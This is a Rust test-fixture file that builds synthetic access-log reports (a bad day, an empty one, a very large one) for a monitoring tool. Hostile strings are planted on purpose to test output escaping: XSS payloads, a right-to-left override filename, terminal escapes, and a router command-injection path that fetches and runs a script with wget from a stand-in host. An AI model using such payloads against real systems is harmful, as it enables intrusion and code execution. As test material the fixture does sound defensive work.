//! Reports made by hand: one of a bad day, with hostile text in it, one of nothing, and a very large one.

use demur_watch::Report;
use demur_watch::alert::{Alert, Cause, Dimension, Numbers, Severity, State};
use demur_watch::report::{Consumer, Input, Miss, MissClass, RouteRow, Scanner, Series};

/// 2026-03-03 00:00 UTC.
const START: u64 = 1_772_496_000;
const STEP: u64 = 300;
const INTERVALS: u64 = 216;

/// What an attacker would like to be read as something else.
pub(crate) const HOSTILE: &str = "/<script>alert(1)</script>\"'&\u{202e}gpj.exe\u{0}\u{1b}[2J";

/// Counts that go up and down, the same in every run.
fn waves(base: u64, swing: u64, seed: u64) -> Vec<u64> {
    let mut state = seed.wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1;
    let mut noise = move || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        state % (swing + 1)
    };
    // Few at night, most in the afternoon.
    let by_hour = |index: u64| {
        let hour = index * STEP / 3_600 % 24;
        2 + hour.min(28 - hour.min(28)).min(12)
    };
    (0..INTERVALS)
        .map(|index| base * by_hour(index) / 8 + noise())
        .collect()
}

/// The same, and from one interval to another something else.
fn burst(mut counts: Vec<u64>, from: usize, to: usize, more: u64) -> Vec<u64> {
    for (index, count) in counts.iter_mut().enumerate() {
        if (from..to).contains(&index) {
            *count += more + *count % 7;
        }
    }
    counts
}

fn at(interval: u64) -> u64 {
    START + interval * STEP
}

pub(crate) fn bad_day() -> Report {
    let series = series();
    let total = |status: u16| -> u64 {
        series
            .client_errors
            .iter()
            .filter(|(one, _)| *one == status)
            .flat_map(|(_, counts)| counts)
            .sum()
    };
    let requests = series.requests.iter().sum();
    let statuses = vec![
        (200, 318_402),
        (206, 1_211),
        (301, 9_120),
        (304, 44_018),
        (400, total(400)),
        (401, total(401)),
        (403, total(403)),
        (404, total(404)),
        (405, 212),
        (422, total(422)),
        (429, total(429)),
        (500, 41),
        (502, series.server_errors.iter().sum()),
    ];
    Report {
        inputs: inputs(),
        span: Some((START + 4, at(INTERVALS) - 11)),
        requests,
        bytes: 18_402_118_223,
        late: 12,
        ahead: 3,
        statuses,
        routes: routes(),
        routes_total: 48,
        misses: misses(),
        series,
        scanners: scanners(),
        consumers: consumers(),
        alerts: alerts(),
    }
}

fn series() -> Series {
    let server_errors = waves(0, 2, 11).into_iter().map(|count| count / 2).collect();
    Series {
        start: START,
        step: STEP,
        requests: waves(1_900, 260, 3),
        client_errors: vec![
            (404, burst(waves(60, 24, 5), 110, 131, 420)),
            (400, burst(waves(12, 9, 7), 138, 216, 160)),
            (403, burst(waves(6, 5, 9), 60, 66, 90)),
            (401, waves(14, 8, 13)),
            (429, burst(waves(1, 2, 15), 170, 174, 240)),
            (422, waves(4, 4, 17)),
            (0, waves(1, 3, 19)),
        ],
        server_errors: burst(server_errors, 150, 153, 24),
    }
}

fn inputs() -> Vec<Input> {
    vec![
        Input {
            name: "/var/log/nginx/access.log".to_owned(),
            format: "combined".to_owned(),
            fits: (49_990, 50_000),
            lines: 391_204,
            unread: 17,
            samples: vec![
                (812, "no time".to_owned(), "\u{16}\u{3}\u{1}\u{2}\u{0}\u{1}\u{0}\u{1}\u{fc}\u{3}\u{3}".to_owned()),
                (90_411, "no status".to_owned(), "203.0.113.9 - - [03/Mar/2026:07:14:11 +0000] \"GET <img src=x onerror=alert(1)>".to_owned()),
            ],
        },
        Input {
            name: "/var/log/nginx/access.log.1.gz".to_owned(),
            format: "combined".to_owned(),
            fits: (50_000, 50_000),
            lines: 402_118,
            unread: 0,
            samples: Vec::new(),
        },
    ]
}

fn routes() -> Vec<RouteRow> {
    let row = |route: &str, requests: u64, statuses: &[(u16, u64)], trend: Vec<u64>| RouteRow {
        route: route.to_owned(),
        requests,
        statuses: statuses.to_vec(),
        client_errors: statuses
            .iter()
            .filter(|(status, _)| *status < 500)
            .map(|(_, hits)| hits)
            .sum(),
        trend,
    };
    vec![
        row(
            "POST /v1/orders",
            21_902,
            &[(400, 13_071), (401, 212), (422, 804), (429, 960), (502, 71)],
            burst(waves(9, 6, 21), 138, 216, 160),
        ),
        row(
            "GET /docs/v2/{}",
            14_118,
            &[(404, 9_204)],
            burst(waves(1, 2, 23), 110, 131, 420),
        ),
        row(
            "GET /v1/orders/{}",
            88_204,
            &[(404, 2_011), (401, 390), (403, 140), (500, 41)],
            waves(10, 8, 25),
        ),
        row(
            "GET /v1/reports/{}/export",
            3_120,
            &[(403, 604), (401, 12)],
            burst(waves(1, 3, 27), 60, 66, 90),
        ),
        row("GET /assets/{}", 190_233, &[(404, 320)], waves(2, 3, 29)),
        row(
            "DELETE /v1/customers/{}/addresses/{}",
            402,
            &[(404, 19), (405, 212)],
            waves(0, 2, 31),
        ),
        row(&format!("GET {HOSTILE}"), 90, &[(404, 90)], waves(0, 1, 33)),
        row("GET /health", 20_160, &[], vec![0; 216]),
    ]
}

fn miss(
    path: &str,
    hits: u64,
    referrer: &str,
    live_until: Option<u64>,
    nearest: Option<&str>,
) -> Miss {
    Miss {
        path: path.to_owned(),
        status: 404,
        hits,
        referrer: referrer.to_owned(),
        live_until,
        nearest: nearest.map(str::to_owned),
    }
}

fn kind(kind: &str, top: Vec<Miss>, rest: u64) -> MissClass {
    MissClass {
        kind: kind.to_owned(),
        hits: top.iter().map(|miss| miss.hits).sum::<u64>() + rest,
        top,
    }
}

fn misses() -> Vec<MissClass> {
    let docs = [
        "/docs/getting-started",
        "/docs/webhooks/signatures-and-retries",
    ]
    .map(Some);
    let shop = "https://shop.example/help";
    let gone = Some(at(110));
    vec![
        kind(
            "was-live",
            vec![
                miss("/docs/v2/getting-started", 4_120, shop, gone, docs[0]),
                miss(
                    "/docs/v2/webhooks/signatures-and-retries",
                    2_203,
                    shop,
                    gone,
                    docs[1],
                ),
                miss("/docs/v2/errors", 611, "", Some(at(109) + 61), None),
            ],
            2_270,
        ),
        kind(
            "internal-link",
            vec![miss(
                "/images/logo-2024.svg",
                801,
                shop,
                None,
                Some("/images/logo.svg"),
            )],
            44,
        ),
        kind("external-link", linked(), 61),
        kind("scanner", probed(), 3_900),
        kind(
            "known-route",
            vec![miss("/v1/orders/88231", 14, "", None, None)],
            2_400,
        ),
        kind(
            "never-existed",
            vec![miss(
                "/apple-touch-icon-precomposed.png",
                220,
                "",
                None,
                Some("/apple-touch-icon.png"),
            )],
            310,
        ),
    ]
}

fn linked() -> Vec<Miss> {
    let news = "https://news.example/item/40213321";
    let evil = "https://evil.example/\"><script>alert(document.domain)</script>";
    vec![
        miss(
            "/blog/how-we-moved-to-http3",
            340,
            news,
            None,
            Some("/blog/http3"),
        ),
        miss(HOSTILE, 12, evil, None, None),
    ]
}

fn probed() -> Vec<Miss> {
    let shell = "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>`wget+-O-+http://198.51.100.7/x|sh`)";
    vec![
        miss("/wp-login.php", 2_020, "", None, None),
        miss("/.env", 1_444, "", None, None),
        miss(shell, 40, "", None, None),
    ]
}

fn scanners() -> Vec<Scanner> {
    let one = |network: &str, requests, paths, from, to, examples: &[&str]| Scanner {
        network: network.to_owned(),
        requests,
        paths,
        span: (at(from), at(to)),
        examples: examples.iter().map(|path| (*path).to_owned()).collect(),
    };
    vec![
        one(
            "198.51.100.0/24",
            4_812,
            1_920,
            31,
            44,
            &[
                "/wp-login.php",
                "/.env",
                "/.git/config",
                "/phpmyadmin/index.php",
            ],
        ),
        one(
            "2001:db8:77::/48",
            1_204,
            1_190,
            12,
            13,
            &["/admin", "/backup.zip", HOSTILE],
        ),
        one("203.0.113.0/24", 340, 88, 90, 200, &["/cgi-bin/test.cgi"]),
    ]
}

#[expect(clippy::cast_precision_loss, reason = "small numbers")]
fn consumers() -> Vec<Consumer> {
    let one =
        |name: &str, requests, rejected, faults: &[(&str, u64)], trend: Vec<u64>, early, saved| {
            Consumer {
                name: name.to_owned(),
                requests,
                rejected,
                faults: faults
                    .iter()
                    .map(|(fault, hits)| ((*fault).to_owned(), *hits))
                    .collect(),
                trend: trend
                    .into_iter()
                    .map(|share| (share as f64 / 100.0).min(1.0))
                    .collect(),
                early,
                saved,
            }
        };
    vec![
        one(
            "partner-emea",
            18_220,
            9_120,
            &[("body-schema", 8_011), ("rate-limit", 960), ("401", 149)],
            burst(waves(1, 3, 35), 138, 216, 60),
            9_088,
            402_118_220,
        ),
        one(
            "mobile-app",
            120_330,
            4_402,
            &[("body-schema", 3_960), ("404", 442)],
            burst(waves(1, 3, 37), 138, 216, 12),
            3_971,
            182_004_100,
        ),
        one(
            "bi-export",
            604,
            604,
            &[("forbidden", 604)],
            vec![100; 216],
            604,
            9_040_000,
        ),
        one("<b>bobby</b>", 12, 1, &[("405", 1)], vec![0; 216], 1, 900),
    ]
}

fn alert(
    id: &str,
    detector: &str,
    severity: Severity,
    state: State,
    since: u64,
    until: Option<u64>,
) -> Alert {
    Alert {
        id: id.to_owned(),
        detector: detector.to_owned(),
        severity,
        state,
        routes: Vec::new(),
        statuses: vec![404],
        since: at(since),
        raised: at(since) + 180,
        until: until.map(at),
        numbers: Numbers::default(),
        causes: Vec::new(),
        sentence: String::new(),
        examples: Vec::new(),
        hint: String::new(),
    }
}

fn cause(dimension: Dimension, value: &str, of_excess: f64, of_traffic: f64) -> Cause {
    Cause {
        dimension,
        value: value.to_owned(),
        of_excess,
        of_traffic,
    }
}

fn strings(values: &[&str]) -> Vec<String> {
    values.iter().map(|value| (*value).to_owned()).collect()
}

fn alerts() -> Vec<Alert> {
    vec![
        Alert {
            statuses: vec![403],
            routes: strings(&["GET /v1/reports/{}/export"]),
            numbers: Numbers { bad: 604, requests: 640, expected: 2.4, clients: 1, paths: 88, good_before: 0 },
            causes: vec![cause(Dimension::Principal, "bi-export", 1.0, 0.94)],
            sentence: "`bi-export` is refused on `GET /v1/reports/{}/export` since its first request: 604 of 604 with 403, all for want of a scope".to_owned(),
            hint: "Give the client the scope `reports:export`, or tell its owner to stop".to_owned(),
            ..alert("missing-scope-3f0a", "missing-scope", Severity::Ticket, State::Acknowledged, 60, Some(66))
        },
        Alert {
            routes: strings(&["GET /docs/v2/{}"]),
            numbers: Numbers { bad: 9_204, requests: 9_240, expected: 12.0, clients: 1_204, paths: 38, good_before: 48_210 },
            causes: vec![
                cause(Dimension::Prefix, "/docs/v2/", 0.99, 0.04),
                cause(Dimension::ReferrerHost, "shop.example", 0.71, 0.66),
            ],
            sentence: "38 paths under `/docs/v2/` answered 200 until 09:10 and answer 404 since: 9,204 requests of 1,204 clients".to_owned(),
            examples: strings(&["/docs/v2/getting-started", "/docs/v2/webhooks/signatures-and-retries", "/docs/v2/errors"]),
            hint: "Bring the paths back, or redirect: `demur watch suggest` writes the lines".to_owned(),
            ..alert("routing-regression-9c41", "routing-regression", Severity::Page, State::Resolved, 110, Some(131))
        },
        Alert {
            statuses: vec![400, 422],
            routes: strings(&["PATCH /v1/orders/{}", "POST /v1/orders"]),
            numbers: Numbers { bad: 13_875, requests: 16_330, expected: 364.2, clients: 4_020, paths: 311, good_before: 0 },
            causes: vec![
                cause(Dimension::AgentVersion, "shop-app/5.2.0", 0.942, 0.11),
                cause(Dimension::Step, "body-schema", 0.91, 0.08),
                cause(Dimension::Device, "iOS", 0.61, 0.58),
            ],
            sentence: "94 % of the excess 400s on `POST /v1/orders` come from `shop-app/5.2.0`, which sends 11 % of the requests; it was first seen at 11:28".to_owned(),
            examples: strings(&["/v1/orders", HOSTILE]),
            hint: "Stop the rollout of `shop-app/5.2.0`".to_owned(),
            ..alert("bad-client-deployment-77b2", "bad-client-deployment", Severity::Page, State::Open, 138, None)
        },
        Alert {
            statuses: vec![429],
            routes: strings(&["POST /v1/orders"]),
            numbers: Numbers { bad: 960, requests: 1_402, expected: 3.0, clients: 2, paths: 1, good_before: 0 },
            sentence: "Two clients ask again within a second of every 429".to_owned(),
            ..alert("rate-limit-storm-01d9", "rate-limit-storm", Severity::Ticket, State::Resolved, 170, Some(174))
        },
        Alert {
            numbers: Numbers { bad: 4_812, requests: 4_812, expected: 0.0, clients: 3, paths: 1_920, good_before: 0 },
            sentence: format!("`198.51.100.0/24` looked for 1,920 paths that never were there, like {HOSTILE}"),
            ..alert("scanner-storm-\"><img src=x onerror=alert(1)>", "scanner-storm", Severity::Note, State::Resolved, 31, Some(44))
        },
    ]
}

pub(crate) fn nothing() -> Report {
    Report::default()
}

/// 2,000 routes, 600 alerts, and long lists everywhere.
pub(crate) fn huge() -> Report {
    let mut report = bad_day();
    report.routes = (0..2_000).map(many_routes).collect();
    report.routes_total = 6_412;
    let example = report.alerts.clone();
    report.alerts = (0..120).flat_map(|_| example.clone()).collect();
    let longest = "/a%20long/path".repeat(600);
    for kind in &mut report.misses {
        kind.top = (0..1_000)
            .map(|index| {
                miss(
                    &format!("{longest}/{index}"),
                    1_000 - index,
                    &longest,
                    Some(START),
                    Some(&longest),
                )
            })
            .collect();
        kind.hits = 500_500;
    }
    report.scanners = (0..1_000).flat_map(|_| report.scanners.clone()).collect();
    report.consumers = (0..1_000).flat_map(|_| report.consumers.clone()).collect();
    report.inputs = (0..1_000).flat_map(|_| report.inputs.clone()).collect();
    let longer =
        |counts: &[u64]| -> Vec<u64> { counts.iter().copied().cycle().take(20_000).collect() };
    report.series.requests = longer(&report.series.requests);
    report.series.server_errors = longer(&report.series.server_errors);
    for (_, counts) in &mut report.series.client_errors {
        *counts = longer(counts);
    }
    report.series.step = 60;
    report
}

fn many_routes(index: u64) -> RouteRow {
    RouteRow {
        route: format!("GET /v1/tenants/{{}}/collections-{index}/{{}}/items/{{}}"),
        requests: 100_000 - index,
        statuses: vec![
            (400, 40),
            (401, 30),
            (403, 20),
            (404, 2_200 - index),
            (422, 4),
            (500, 3),
        ],
        client_errors: 2_294 - index,
        trend: waves(index % 40, 50, index + 1)
            .into_iter()
            .cycle()
            .take(20_000)
            .collect(),
    }
}
